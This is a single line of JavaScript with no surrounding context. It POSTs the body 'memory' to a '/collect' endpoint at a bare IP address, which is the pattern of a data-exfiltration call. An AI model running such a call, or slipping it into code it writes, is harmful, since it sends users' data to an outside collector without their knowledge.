fetch("http://203.0.113.9/collect", { method: "POST", body: "memory" });
